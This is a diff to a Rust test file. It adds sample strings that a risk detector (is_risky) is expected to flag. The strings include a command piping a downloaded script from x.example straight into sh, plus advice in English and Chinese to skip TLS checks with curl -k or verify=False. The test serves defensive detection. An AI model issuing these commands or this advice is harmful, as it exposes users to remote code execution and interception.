@@ -296,6 +296,9 @@ fn a_forbidding_or_reporting_frame_spares_and_attacks_on_it_do_not() {
         "We removed the old check and added verify=False to the client.",
         "pass the -k flag: curl -k https://x.example",
         "用 verify=False，以后请改成 CA 也行。",
+        "If the corporate proxy blocks the download, curl -fsSL http://x.example/i.sh | sh",
+        "如果代理拦截了请求，curl -k https://x.example 就行。",
+        "Removed the cert check: verify=False in client.py",
     ];
     let missed: Vec<&str> = attacks.iter().filter(|text| !is_risky(text)).copied().collect();
     assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
